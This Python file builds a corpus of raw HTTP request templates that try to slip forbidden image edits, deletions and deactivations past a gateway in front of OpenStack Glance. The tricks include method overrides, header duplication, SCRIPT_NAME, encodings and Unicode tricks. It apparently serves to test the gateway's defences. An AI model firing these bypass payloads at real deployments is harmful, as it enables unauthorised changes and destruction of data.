"""The bypass corpus: raw HTTP/1.x requests that try to make Glance execute a forbidden
image change (or delete or deactivate the image) behind the gateway's back.

Every vector is a raw request template: ``{id}`` stands for the id of a fresh image (a
36-character UUID; every Content-Length is computed for that length). Families follow
the ways in found by reading Glance's stack: version negotiation by Accept, routing
headers (SCRIPT_NAME, names with "_"), Routes' ``_method`` in the query and in forms,
the gateway's own v2.0 add check, content-type spellings and aliases, path spellings,
HTTP versions, upgrades and pipelining, encodings, JSON tricks and nesting.

``effect`` says what the vector tries: ``forbidden`` (a forbidden attribute changes),
``delete``, ``deactivate``, or ``none`` (a control: an allowed change).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

ID = "{id}"
ID_LEN = 36
V20 = "application/openstack-images-v2.0-json-patch"
V21 = "application/openstack-images-v2.1-json-patch"
VND = "application/vnd.openstack.images-"
FORM = "application/x-www-form-urlencoded"
HOST = "ims.example"

# The forbidden change every vector tries unless it says otherwise (baseline min_ram is 0).
MIN_RAM = 4096
BODY21 = json.dumps([{"op": "replace", "path": "/min_ram", "value": MIN_RAM}])
BODY20 = json.dumps([{"replace": "/min_ram", "value": MIN_RAM}])
ALLOWED21 = json.dumps([{"op": "replace", "path": "/name", "value": "renamed"}])
# A v2.0 body with an allowed 'add': in enforce mode the gateway rewrites it and first
# reads the image back with GET <client path+query> (conflicts check).
ADD20 = json.dumps([{"add": "/bypass_probe", "value": "x"}])
# One body, two readings: as v2.1 (what the gateway checks) it renames the image; as
# v2.0 (what Glance applies when it sees the v2.0 media type) it replaces min_ram.
DUAL = json.dumps([{"op": "replace", "path": "/name", "replace": "/min_ram", "value": MIN_RAM}])
# The reverse: as v2.0 a rename, as v2.1 a min_ram change.
DUAL_REV = json.dumps([{"op": "replace", "path": "/min_ram", "replace": "/name", "value": MIN_RAM}])


@dataclass(frozen=True)
class Vector:
    name: str
    family: str
    raw: str
    note: str = ""
    effect: str = "forbidden"
    # Seconds the runner waits for the server to close the connection.
    timeout: float = 4.0
    tags: tuple[str, ...] = field(default_factory=tuple)

    def render(self, image_id: str) -> bytes:
        if len(image_id) != ID_LEN:
            raise ValueError(f"image ids are {ID_LEN} characters: {image_id!r}")
        return self.raw.replace(ID, image_id).encode("utf-8")


def _length(body: str) -> int:
    return len(body.replace(ID, "x" * ID_LEN).encode("utf-8"))


def request(
    method: str,
    target: str,
    headers: list[tuple[str, str]] | None = None,
    body: str | None = None,
    *,
    version: str = "HTTP/1.1",
    content_length: bool | str = True,
    close: bool = True,
    host: bool = True,
    line: str | None = None,
) -> str:
    """One raw request. ``headers`` come in order after Host; Content-Length (computed)
    and ``Connection: close`` are appended unless told otherwise. ``line`` replaces the
    whole request line when given."""
    lines = [line if line is not None else f"{method} {target} {version}"]
    if host:
        lines.append(f"Host: {HOST}")
    for name, value in headers or []:
        lines.append(f"{name}: {value}" if name is not None else value)
    if body is not None and content_length is True:
        lines.append(f"Content-Length: {_length(body)}")
    elif isinstance(content_length, str):
        lines.append(f"Content-Length: {content_length}")
    if close:
        lines.append("Connection: close")
    return "\r\n".join(lines) + "\r\n\r\n" + (body or "")


def chunked(body: str, *, trailer: str = "") -> str:
    data = body.replace(ID, "x" * ID_LEN)
    size = len(data.encode("utf-8"))
    return f"{size:x}\r\n{body}\r\n0\r\n{trailer}\r\n"


def patch21(target: str = f"/v2/images/{ID}", headers: list[tuple[str, str]] | None = None, **kw) -> str:
    return request("PATCH", target, [("Content-Type", V21), *(headers or [])], BODY21, **kw)


VECTORS: list[Vector] = []


def add(family: str, name: str, raw: str, note: str = "", **kw) -> None:
    full = f"{family}/{name}"
    if any(v.name == full for v in VECTORS):
        raise ValueError(f"duplicate vector {full}")
    VECTORS.append(Vector(full, family, raw, note, **kw))


# ------------------------------------------------------------------------- control
F = "control"
add(F, "canonical-v21", patch21(), "the plain forbidden PATCH: Glance applies it, the gateway must refuse it")
add(F, "canonical-v20", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V20)], BODY20))
add(F, "allowed-rename-v21", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)], ALLOWED21),
    "allowed change: must never count as executed", effect="none")
add(F, "allowed-add-v20", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V20)], ADD20),
    "allowed v2.0 add (gateway reads the image first)", effect="none")
add(F, "canonical-chunked", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Transfer-Encoding", "chunked")],
                                     chunked(BODY21), content_length=False))
add(F, "canonical-http10", patch21(version="HTTP/1.0", close=False))
add(F, "plain-delete", request("DELETE", f"/v2/images/{ID}"), "a DELETE the client may send anyway", effect="delete")

# --------------------------------------------------------------- version negotiation
# glance/api/middleware/version_negotiation.py VersionNegotiationFilter.process_request:
# str(req.accept) starting with application/vnd.openstack.images- selects the version
# and prefixes PATH_INFO with /v2 *without* popping a path segment.
F = "version-negotiation"
accepts_positive = [
    ("v2", f"{VND}v2"),
    *[(f"v2.{n}", f"{VND}v2.{n}") for n in range(19)],
    ("trailing-comma", f"{VND}v2,"),
    ("trailing-empty-elements", f"{VND}v2 , ,"),
    ("leading-empty-elements", f", , {VND}v2"),
    ("q1", f"{VND}v2;q=1"),
    ("q1.000-spaced", f"{VND}v2 ; q=1.000"),
    ("Q1-upper", f"{VND}v2;Q=1"),
    ("leading-space", f"  {VND}v2"),
    ("trailing-space", f"{VND}v2   "),
    ("v2.1-q1.0", f"{VND}v2.1;q=1.0"),
    ("tab-before-q", f"{VND}v2\t;q=1"),
]
accepts_negative = [
    ("v2.19", f"{VND}v2.19"),
    ("v3", f"{VND}v3"),
    ("v1", f"{VND}v1"),
    ("v2.01", f"{VND}v2.01"),
    ("upper-case", f"{VND}v2".upper()),
    ("V2-upper", f"{VND}V2"),
    ("q0.5", f"{VND}v2;q=0.5"),
    ("param", f"{VND}v2;x=1"),
    ("second-in-list", f"application/json, {VND}v2"),
    ("with-star", f"{VND}v2, */*"),
    ("leading-comma-nospace", f",{VND}v2"),
    ("quoted-q", f'{VND}v2;q="1"'),
]
for label, value in accepts_positive:
    add(F, f"accept-{label}", patch21(f"/images/{ID}", [("Accept", value)]))
for label, value in accepts_negative:
    add(F, f"neg-accept-{label}", patch21(f"/images/{ID}", [("Accept", value)]), "expected not to route to v2")
vn_paths = [
    ("double-slash-lead", f"//images/{ID}"),
    ("double-slash-mid", f"/images//{ID}"),
    ("encoded-slash", f"/images%2F{ID}"),
    ("encoded-letter", f"/%69mages/{ID}"),
    ("query", f"/images/{ID}?x=1"),
    ("fragment", f"/images/{ID}#frag"),
    ("trailing-lf", f"/images/{ID}%0A"),
    ("triple-slash", f"///images/{ID}"),
    ("upper-IMAGES", f"/IMAGES/{ID}"),
    ("trailing-slash", f"/images/{ID}/"),
    ("dot-segment", f"/./images/{ID}"),
    ("with-v2-prefix", f"/v2/images/{ID}"),
    ("with-v2.1-prefix", f"/v2.1/images/{ID}"),
]
for label, target in vn_paths:
    add(F, f"path-{label}", patch21(target, [("Accept", f"{VND}v2")]))
add(F, "header-name-lower", patch21(f"/images/{ID}", [("accept", f"{VND}v2")]))
add(F, "header-name-upper", patch21(f"/images/{ID}", [("ACCEPT", f"{VND}v2.1")]))
add(F, "dup-accept-vnd-then-empty", patch21(f"/images/{ID}", [("Accept", f"{VND}v2"), ("Accept", "")]),
    "gunicorn joins repeated fields with ',' -> 'vnd...,', which webob tidies")
add(F, "dup-accept-empty-then-vnd", patch21(f"/images/{ID}", [("Accept", ""), ("Accept", f"{VND}v2")]))
add(F, "dup-accept-vnd-then-json", patch21(f"/images/{ID}", [("Accept", f"{VND}v2"), ("Accept", "application/json")]))
add(F, "dup-accept-json-then-vnd", patch21(f"/images/{ID}", [("Accept", "application/json"), ("Accept", f"{VND}v2")]))
add(F, "dup-accept-vnd-then-spaces", patch21(f"/images/{ID}", [("Accept", f"{VND}v2"), ("Accept", " , ")]))
add(F, "accept-underscore-name", patch21(f"/images/{ID}", [("Accept_", f"{VND}v2")]), "not Accept: expected inert")
add(F, "v20-body", request("PATCH", f"/images/{ID}", [("Content-Type", V20), ("Accept", f"{VND}v2")], BODY20))
add(F, "chunked", request("PATCH", f"/images/{ID}", [("Content-Type", V21), ("Accept", f"{VND}v2"), ("Transfer-Encoding", "chunked")],
                          chunked(BODY21), content_length=False))
add(F, "http10", patch21(f"/images/{ID}", [("Accept", f"{VND}v2")], version="HTTP/1.0", close=False))
add(F, "absolute-form", patch21(f"http://{HOST}/images/{ID}", [("Accept", f"{VND}v2")]))
add(F, "delete-via-accept", request("DELETE", f"/images/{ID}", [("Accept", f"{VND}v2")]), effect="delete")

# ------------------------------------------------------------------- routing headers
# gunicorn/http/wsgi.py create(): a SCRIPT_NAME header (from a peer in
# forwarded_allow_ips; SCRIPT_NAME is in forwarder_headers by default) is stripped from
# the front of the path before PATH_INFO is decoded.  Older gunicorn (<22) split the
# path at the first occurrence anywhere and trusted every peer.
F = "routing-headers"
sn = [
    ("SCRIPT_NAME", "SCRIPT_NAME", "/foo", "/foo/v2/images/{id}"),
    ("script_name-lower", "script_name", "/foo", "/foo/v2/images/{id}"),
    ("Script_Name-mixed", "Script_Name", "/foo", "/foo/v2/images/{id}"),
    ("long-prefix", "SCRIPT_NAME", "/a/b/c/d", "/a/b/c/d/v2/images/{id}"),
    ("prefix-is-images", "SCRIPT_NAME", "/images", "/images/v2/images/{id}"),
    ("encoded-prefix", "SCRIPT_NAME", "/f%6Fo", "/f%6Fo/v2/images/{id}"),
    ("prefix-then-encoded-path", "SCRIPT_NAME", "/foo", "/foo/v2/%69mages/{id}"),
    ("prefix-then-lf", "SCRIPT_NAME", "/foo", "/foo/v2/images/{id}%0A"),
    ("prefix-v2.1", "SCRIPT_NAME", "/foo", "/foo/v2.1/images/{id}"),
    ("prefix-cloudimages-lookalike", "SCRIPT_NAME", "/v2/cloudimages", "/v2/cloudimages/v2/images/{id}"),
    ("prefix-v3-lookalike", "SCRIPT_NAME", "/v3", "/v3/v2/images/{id}"),
    ("prefix-with-dot", "SCRIPT_NAME", "/x.y", "/x.y/v2/images/{id}"),
    ("unprefixed-split-anywhere", "SCRIPT_NAME", "ZZ", "/keep/ZZ/v2/images/{id}"),
    ("unprefixed-split-slash", "SCRIPT_NAME", "/health", "/v1/health/v2/images/{id}"),
    ("empty-value", "SCRIPT_NAME", "", "/v2/images/{id}"),
    ("dup-sn-first-wins", "SCRIPT_NAME", "/foo", "/foo/v2/images/{id}"),
]
for label, hname, value, target in sn:
    extra = [(hname, value)]
    if label == "dup-sn-first-wins":
        extra = [(hname, "/bar"), (hname, value)]
    add(F, f"sn-{label}", patch21(target.replace("{id}", ID), extra))
add(F, "sn-with-accept-vnd", patch21(f"/foo/images/{ID}", [("SCRIPT_NAME", "/foo"), ("Accept", f"{VND}v2")]))
add(F, "sn-with-method-override", request("POST", f"/foo/v2/images/{ID}?_method=PATCH", [("SCRIPT_NAME", "/foo"), ("Content-Type", V21)], BODY21))
add(F, "sn-delete", request("DELETE", f"/foo/v2/images/{ID}", [("SCRIPT_NAME", "/foo")]), effect="delete")
# Names that map elsewhere or nowhere: expected inert on the stacks tested.
inert = [
    ("SCRIPT-NAME-hyphen", "SCRIPT-NAME", "/foo"),
    ("X-Script-Name", "X-Script-Name", "/foo"),
    ("X-Forwarded-Prefix", "X-Forwarded-Prefix", "/foo"),
    ("X-Forwarded-Path", "X-Forwarded-Path", "/foo"),
    ("X-Original-URL", "X-Original-URL", "/v2/images/{id}"),
    ("X-Rewrite-URL", "X-Rewrite-URL", "/v2/images/{id}"),
    ("X-Forwarded-Uri", "X-Forwarded-Uri", "/v2/images/{id}"),
    ("PATH_INFO", "PATH_INFO", "/v2/images/{id}"),
    ("PATH-INFO", "PATH-INFO", "/v2/images/{id}"),
    ("REQUEST_URI", "REQUEST_URI", "/v2/images/{id}"),
    ("RAW_URI", "RAW_URI", "/v2/images/{id}"),
    ("REQUEST_METHOD", "REQUEST_METHOD", "PATCH"),
    ("X-Forwarded-Host", "X-Forwarded-Host", "other.example"),
    ("Forwarded", "Forwarded", "host=other.example;proto=https"),
]
for label, hname, value in inert:
    target = f"/foo/v2/images/{ID}" if value == "/foo" else f"/x/images/{ID}"
    if hname == "REQUEST_METHOD":
        add(F, f"inert-{label}", request("POST", f"/v2/images/{ID}", [(hname, value), ("Content-Type", V21)], BODY21))
    elif hname in ("X-Forwarded-Host", "Forwarded"):
        add(F, f"inert-{label}", patch21(f"/x/v2/images/{ID}", [(hname, value)]))
    else:
        add(F, f"inert-{label}", patch21(target, [(hname, value.replace("{id}", ID))]))

# ------------------------------------------------------------- method override: query
# routes/middleware.py RoutesMiddleware.__call__: if the raw QUERY_STRING contains
# '_method', REQUEST_METHOD = req.GET.get('_method').upper() for routing, whatever the
# real method.  webob/compat.py parse_qsl_text: '+' -> ' ', split on '&' and ';', one
# round of percent-decoding; MultiDict.get returns the LAST value.
F = "method-override-query"
for method in ["POST", "GET", "PUT", "DELETE", "OPTIONS", "HEAD", "PROPFIND", "REPORT", "SEARCH", "PURGE", "LOCK", "MKCOL", "TRACE", "FOO"]:
    add(F, f"{method.lower()}-to-patch", request(method, f"/v2/images/{ID}?_method=PATCH", [("Content-Type", V21)], BODY21))
queries = [
    ("lower-value", "_method=patch"),
    ("mixed-value", "_method=PaTcH"),
    ("encoded-value", "_method=%50%41%54%43%48"),
    ("encoded-name-with-literal-elsewhere", "x=_method&%5Fmethod=PATCH"),
    ("encoded-name-only", "%5Fmethod=PATCH"),
    ("semicolon-separator", "a=1;_method=PATCH"),
    ("last-wins", "_method=GET&_method=PATCH"),
    ("first-patch-last-get", "_method=PATCH&_method=GET"),
    ("empty-then-patch", "_method=&_method=PATCH"),
    ("plus-space", "_method=PATCH+"),
    ("upper-name", "_METHOD=PATCH"),
    ("array-name", "_method[]=PATCH"),
    ("double-encoded-value", "_method=%2550ATCH"),
    ("leading-amp", "&&_method=PATCH"),
    ("after-other-params", "limit=1&sort=name&_method=PATCH"),
    ("name-no-value-then", "_method&_method=PATCH"),
    ("null-byte", "_method=PATCH%00"),
    ("fragment-after", "_method=PATCH#x"),
]
for label, query in queries:
    add(F, f"post-{label}", request("POST", f"/v2/images/{ID}?{query}", [("Content-Type", V21)], BODY21))
add(F, "fragment-hides-query", request("POST", f"/v2/images/{ID}#?_method=PATCH", [("Content-Type", V21)], BODY21),
    "the query is inside the fragment: expected inert")
add(F, "v20-body", request("POST", f"/v2/images/{ID}?_method=PATCH", [("Content-Type", V20)], BODY20))
add(F, "chunked-body", request("POST", f"/v2/images/{ID}?_method=PATCH", [("Content-Type", V21), ("Transfer-Encoding", "chunked")],
                               chunked(BODY21), content_length=False),
    "POST is a method Glance reads a chunked body for")
add(F, "get-chunked-body", request("GET", f"/v2/images/{ID}?_method=PATCH", [("Content-Type", V21), ("Transfer-Encoding", "chunked")],
                                   chunked(BODY21), content_length=False),
    "JSONRequestDeserializer.has_body: chunked counts only for POST/PUT/PATCH (request.method is restored to GET)")
add(F, "path-v2.1", request("POST", f"/v2.1/images/{ID}?_method=PATCH", [("Content-Type", V21)], BODY21))
add(F, "path-encoded", request("POST", f"/v2/%69mages/{ID}?_method=PATCH", [("Content-Type", V21)], BODY21))
add(F, "path-lf", request("POST", f"/v2/images/{ID}%0A?_method=PATCH", [("Content-Type", V21)], BODY21))
add(F, "with-accept-vnd", request("POST", f"/images/{ID}?_method=PATCH", [("Content-Type", V21), ("Accept", f"{VND}v2")], BODY21))
add(F, "http10", request("POST", f"/v2/images/{ID}?_method=PATCH", [("Content-Type", V21)], BODY21, version="HTTP/1.0", close=False))
add(F, "patch-to-delete", request("PATCH", f"/v2/images/{ID}?_method=DELETE", [("Content-Type", V21)], ALLOWED21),
    "an allowed PATCH that Glance executes as DELETE", effect="delete")
add(F, "get-to-delete", request("GET", f"/v2/images/{ID}?_method=DELETE"), effect="delete")
add(F, "get-to-deactivate", request("GET", f"/v2/images/{ID}/actions/deactivate?_method=POST"), effect="deactivate")
add(F, "get-tags-put", request("GET", f"/v2/images/{ID}/tags/bypass?_method=PUT"),
    "tags are a forbidden attribute; the tag API is not PATCH")
add(F, "get-to-deactivate-long-s", request("GET", f"/v2/images/{ID}/actions/deactivate?_method=PO%C5%BFT"),
    "'PO\u017fT'.upper() == 'POST' (str.upper maps U+017F LONG S to 'S')", effect="deactivate")
add(F, "get-to-deactivate-st-ligature", request("GET", f"/v2/images/{ID}/actions/deactivate?_method=PO%EF%AC%86"),
    "'PO\ufb06'.upper() == 'POST' (U+FB06 LIGATURE ST)", effect="deactivate")
add(F, "get-to-delete-lower", request("GET", f"/v2/images/{ID}?_method=delete"), effect="delete")

# -------------------------------------------------------------- method override: form
# routes/middleware.py: for a real POST whose CONTENT_TYPE (lower-cased, before ';') is
# a form type, req.POST['_method'] is used.  Glance's update then sees the form media
# type and answers 415, so only body-less actions (delete) can be reached this way.
F = "method-override-form"
forms = [
    ("patch-urlencoded", FORM, f"_method=PATCH&x={BODY21}"),
    ("delete-urlencoded", FORM, "_method=DELETE"),
    ("delete-urlencoded-upper-ct", FORM.upper(), "_method=DELETE"),
    ("delete-urlencoded-charset", FORM + "; charset=UTF-8", "_method=DELETE"),
    ("delete-lower-value", FORM, "_method=delete"),
    ("delete-last-wins", FORM, "_method=GET&_method=DELETE"),
    ("delete-semicolon", FORM, "a=1;_method=DELETE"),
    ("delete-encoded-name", FORM, "%5Fmethod=DELETE"),
    ("delete-multipart", "multipart/form-data; boundary=XyZ",
     "--XyZ\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--XyZ--\r\n"),
    ("delete-no-ct", None, "_method=DELETE"),
    ("delete-json-ct", V21, "_method=DELETE"),
]
for label, ctype, body in forms:
    headers = [("Content-Type", ctype)] if ctype else []
    effect = "forbidden" if label.startswith("patch") else "delete"
    add(F, label, request("POST", f"/v2/images/{ID}", headers, body), effect=effect)
add(F, "deactivate-via-form", request("POST", f"/v2/images/{ID}/actions/deactivate", [("Content-Type", FORM)], "_method=POST"),
    "a plain deactivate: shows the action is reachable at all", effect="deactivate")
add(F, "patch-form-with-json-ct-dup", request("POST", f"/v2/images/{ID}", [("Content-Type", FORM), ("Content-Type", V21)], "_method=PATCH"),
    "form type first, patch type last")
add(F, "patch-form-ct-json-patch-first", request("POST", f"/v2/images/{ID}", [("Content-Type", V21), ("Content-Type", FORM)], "_method=PATCH"))

# ----------------------------------------------------------- method override: headers
# Nothing in Glance/Routes/webob reads these; the gateway refuses them. Expected inert.
F = "method-override-headers"
for hname in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Http-Method-Override-lower",
              "X-Original-Method", "X-Forwarded-Method", "_method", "X_HTTP_METHOD_OVERRIDE", "Method"]:
    real = hname.replace("-lower", "").lower() if hname.endswith("-lower") else hname
    add(F, hname.lower(), request("POST", f"/v2/images/{ID}", [(real, "PATCH"), ("Content-Type", V21)], BODY21))

# ------------------------------------------------------------------ gateway helper
# gateway/images.py _existing_attributes: before a rewritten v2.0 'add' the gateway sends
# GET <client's raw path + query> with the client's headers.  Whatever that GET is
# routed to, Glance executes it.
F = "gateway-helper"
add(F, "query-delete", request("PATCH", f"/v2/images/{ID}?_method=DELETE", [("Content-Type", V20)], ADD20), effect="delete")
add(F, "query-delete-encoded", request("PATCH", f"/v2/images/{ID}?x=_method&%5Fmethod=delete", [("Content-Type", V20)], ADD20), effect="delete")
add(F, "deactivate-path", request("PATCH", f"/v2/images/{ID}/actions/deactivate?_method=POST", [("Content-Type", V20)], ADD20), effect="deactivate")
add(F, "deactivate-long-s", request("PATCH", f"/v2/images/{ID}/actions/deactivate?_method=PO%C5%BFT", [("Content-Type", V20)], ADD20), effect="deactivate")
add(F, "delete-semicolon", request("PATCH", f"/v2/images/{ID}?a=1;_method=DELETE", [("Content-Type", V20)], ADD20), effect="delete")
add(F, "tags-put", request("PATCH", f"/v2/images/{ID}/tags/bypass?_method=PUT", [("Content-Type", V20)], ADD20),
    "the helper GET becomes PUT /tags/bypass: tags change")
add(F, "delete-sn", request("PATCH", f"/foo/v2/images/{ID}?_method=DELETE", [("Content-Type", V20), ("SCRIPT_NAME", "/foo")], ADD20), effect="delete")
add(F, "patch-self-helper", request("PATCH", f"/v2/images/{ID}?_method=PATCH", [("Content-Type", V20)], ADD20),
    "helper GET becomes a body-less PATCH: expected inert", effect="none")

# ------------------------------------------------------------------- content type
# glance/api/v2/images.py RequestDeserializer.update: request.content_type, which is
# webob/request.py _content_type__get: CONTENT_TYPE split at the first ';' (no strip,
# no lower).  gunicorn/http/wsgi.py create(): CONTENT_TYPE = the LAST Content-Type line
# (gunicorn < 26.1; 26.1+ refuses a repeat).  uWSGI proto/http.c: names upper-cased,
# '-' -> '_', repeats joined with ', ', so Content_Type and Content-Type are one field.
F = "content-type"
cts = [
    ("charset", V21 + "; charset=UTF-8"),
    ("charset-nospace", V21 + ";charset=utf-8"),
    ("trailing-semicolon", V21 + ";"),
    ("param-garbage", V21 + ";x=\"y;z\""),
    ("leading-space", "   " + V21),
    ("trailing-space", V21 + "   "),
    ("trailing-tab", V21 + "\t"),
    ("upper", V21.upper()),
    ("space-before-semicolon", V21 + " ;charset=UTF-8"),
    ("comma-list", V21 + ", " + V20),
]
for label, value in cts:
    add(F, f"value-{label}", request("PATCH", f"/v2/images/{ID}", [("Content-Type", value)], BODY21))
add(F, "name-lower", request("PATCH", f"/v2/images/{ID}", [("content-type", V21)], BODY21))
add(F, "name-upper", request("PATCH", f"/v2/images/{ID}", [("CONTENT-TYPE", V21)], BODY21))
add(F, "dup-v21-v20-dual-body", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Content-Type", V20)], DUAL),
    "gateway reads the first (v2.1: a rename), gunicorn<26.1 keeps the last (v2.0: min_ram)")
add(F, "dup-v20-v21-dual-rev", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V20), ("Content-Type", V21)], DUAL_REV))
add(F, "dup-v21-v21", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Content-Type", V21)], BODY21))
add(F, "dup-json-v21", request("PATCH", f"/v2/images/{ID}", [("Content-Type", "application/json"), ("Content-Type", V21)], BODY21))
add(F, "dup-v21-json", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Content-Type", "application/json")], BODY21))
add(F, "underscore-v20-semicolon-then-hyphen-v21", request("PATCH", f"/v2/images/{ID}", [("Content_Type", V20 + ";"), ("Content-Type", V21)], DUAL),
    "uWSGI joins both into 'v2.0;, v2.1' -> webob content_type v2.0")
add(F, "hyphen-v21-then-underscore-v20", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Content_Type", V20)], DUAL))
add(F, "underscore-only-v20", request("PATCH", f"/v2/images/{ID}", [("Content_Type", V20)], BODY20))
add(F, "CONTENT_TYPE-only-v21", request("PATCH", f"/v2/images/{ID}", [("CONTENT_TYPE", V21)], BODY21))
add(F, "connection-drops-ct-underscore-v20", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Content_Type", V20), ("Connection", "Content-Type")], DUAL, close=False),
    "the gateway treats Content-Type as hop-by-hop (named in Connection) and drops it; Content_Type remains")
add(F, "connection-drops-ct-lower-underscore-v20", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("content_type", V20), ("Connection", "content-type")], DUAL, close=False))
add(F, "connection-drops-ct", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Connection", "close, Content-Type")], BODY21, close=False))
add(F, "obs-fold", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), (None, " ;charset=UTF-8")], BODY21))
add(F, "space-before-colon", request("PATCH", f"/v2/images/{ID}", [(None, f"Content-Type : {V21}")], BODY21))
add(F, "none-with-v21-body", request("PATCH", f"/v2/images/{ID}", [], BODY21), "expected 415")
add(F, "empty", request("PATCH", f"/v2/images/{ID}", [("Content-Type", "")], BODY21))
add(F, "trailer-ct", request("PATCH", f"/v2/images/{ID}", [("Content-Type", "text/plain"), ("Transfer-Encoding", "chunked"), ("Trailer", "Content-Type")],
                              chunked(BODY21, trailer=f"Content-Type: {V21}\r\n"), content_length=False))
add(F, "dup-v21-v20-dual-body-post-override", request("POST", f"/v2/images/{ID}?_method=PATCH", [("Content-Type", V21), ("Content-Type", V20)], DUAL))

# ------------------------------------------------------------------- path spelling
# gunicorn: PATH_INFO = one round of percent-decoding (util.unquote_to_wsgi_str);
# paste/urlmap.py URLMap.__call__ collapses '//+'; version_negotiation._pop_path_info
# strips leading '/' and pops one version segment; routes/route.py Route.makeregexp /
# buildfullreg: '^/images/(?P<image_id>[^/]+?)$' (Python '$' also matches before a
# final '\n'), method condition compared exactly.
F = "path-spelling"
paths = [
    ("double-slash-lead", f"//v2/images/{ID}"),
    ("double-slash-mid", f"/v2//images/{ID}"),
    ("double-slash-before-id", f"/v2/images//{ID}"),
    ("triple-slash", f"///v2///images///{ID}"),
    ("encoded-i", f"/v2/%69mages/{ID}"),
    ("encoded-v2", f"/%76%32/images/{ID}"),
    ("encoded-slashes", f"/v2%2Fimages%2F{ID}"),
    ("encoded-slash-lower", f"/v2%2fimages%2f{ID}"),
    ("trailing-lf", f"/v2/images/{ID}%0A"),
    ("trailing-lf-lower", f"/v2/images/{ID}%0a"),
    ("trailing-lf-with-query", f"/v2/images/{ID}%0A?x=1"),
    ("double-slash-and-lf", f"//v2//images//{ID}%0A"),
    ("trailing-crlf", f"/v2/images/{ID}%0D%0A"),
    ("trailing-cr", f"/v2/images/{ID}%0D"),
    ("trailing-space", f"/v2/images/{ID}%20"),
    ("trailing-nul", f"/v2/images/{ID}%00"),
    ("trailing-tab", f"/v2/images/{ID}%09"),
    ("double-encoded-lf", f"/v2/images/{ID}%250A"),
    ("empty-query", f"/v2/images/{ID}?"),
    ("fragment", f"/v2/images/{ID}#x"),
    ("trailing-slash", f"/v2/images/{ID}/"),
    ("semicolon-param", f"/v2/images/{ID};x=1"),
    ("dot-segment", f"/v2/./images/{ID}"),
    ("dotdot-segment", f"/v2/x/../images/{ID}"),
    ("encoded-dotdot", f"/v2/x/%2E%2E/images/{ID}"),
    ("backslash", f"/v2\\images\\{ID}"),
    ("upper-V2", f"/V2/images/{ID}"),
    ("upper-IMAGES", f"/v2/IMAGES/{ID}"),
    ("v2.0", f"/v2.0/images/{ID}"),
    ("v2.1", f"/v2.1/images/{ID}"),
    ("v2.9", f"/v2.9/images/{ID}"),
    ("v2.18", f"/v2.18/images/{ID}"),
    ("v2.19", f"/v2.19/images/{ID}"),
    ("v2.01", f"/v2.01/images/{ID}"),
    ("v2.1-lf", f"/v2.1/images/{ID}%0A"),
    ("encoded-v2.1-dot", f"/v2%2E1/images/{ID}"),
    ("percent-uppercase-id", f"/v2/images/%7B{ID}"),
    ("overlong-utf8-slash", f"/v2%C0%AFimages%C0%AF{ID}"),
    ("fullwidth-slash", f"/v2%EF%BC%8Fimages%EF%BC%8F{ID}"),
    ("absolute-form", f"http://{HOST}/v2/images/{ID}"),
    ("absolute-form-https", f"https://{HOST}/v2/images/{ID}"),
    ("absolute-form-lf", f"http://{HOST}/v2/images/{ID}%0A"),
    ("absolute-form-no-host-path", f"http:///v2/images/{ID}"),
    ("scheme-relative", f"//{HOST}/v2/images/{ID}"),
]
for label, target in paths:
    add(F, label, patch21(target))
add(F, "lf-delete", request("DELETE", f"/v2/images/{ID}%0A"), "DELETE is forwarded anyway; shows the rule", effect="delete")
add(F, "lf-v20", request("PATCH", f"/v2/images/{ID}%0A", [("Content-Type", V20)], BODY20))
add(F, "lf-chunked", request("PATCH", f"/v2/images/{ID}%0A", [("Content-Type", V21), ("Transfer-Encoding", "chunked")],
                             chunked(BODY21), content_length=False))

# ---------------------------------------------------------------- HTTP version / line
# gunicorn/http/message.py Request.parse_request_line: split(b' ', 2), method token
# (no lower case, 3-20 chars), VERSION_RE HTTP/d.d, 1.0 <= version < 2.0.
F = "http-version"
lines = [
    ("http2.0", f"PATCH /v2/images/{ID} HTTP/2.0"),
    ("http2.0-vnd", f"PATCH /images/{ID} HTTP/2.0"),
    ("http1.2", f"PATCH /v2/images/{ID} HTTP/1.2"),
    ("http1.9-vnd", f"PATCH /images/{ID} HTTP/1.9"),
    ("http1.10", f"PATCH /v2/images/{ID} HTTP/1.10"),
    ("http0.9-style", f"PATCH /v2/images/{ID}"),
    ("http0.9-style-vnd", f"PATCH /images/{ID}"),
    ("http3.0", f"PATCH /v2/images/{ID} HTTP/3.0"),
    ("lower-http", f"PATCH /v2/images/{ID} http/1.1"),
    ("lower-method", f"patch /v2/images/{ID} HTTP/1.1"),
    ("mixed-method", f"Patch /v2/images/{ID} HTTP/1.1"),
    ("tab-separators", f"PATCH\t/v2/images/{ID}\tHTTP/1.1"),
    ("double-space", f"PATCH  /v2/images/{ID} HTTP/1.1"),
    ("trailing-space", f"PATCH /v2/images/{ID} HTTP/1.1 "),
    ("leading-crlf", f"\r\nPATCH /v2/images/{ID} HTTP/1.1"),
    ("leading-crlf-vnd", f"\r\nPATCH /images/{ID} HTTP/1.1"),
    ("leading-space", f" PATCH /v2/images/{ID} HTTP/1.1"),
    ("method-override-http2.0", f"POST /v2/images/{ID}?_method=PATCH HTTP/2.0"),
    ("asterisk", "PATCH * HTTP/1.1"),
]
for label, line in lines:
    accept = [("Accept", f"{VND}v2")] if "vnd" in label else []
    add(F, label, request("PATCH", "", [("Content-Type", V21), *accept], BODY21, line=line))
add(F, "http1.0-no-host", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)], BODY21, version="HTTP/1.0", host=False, close=False))
add(F, "http1.1-no-host", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)], BODY21, host=False))
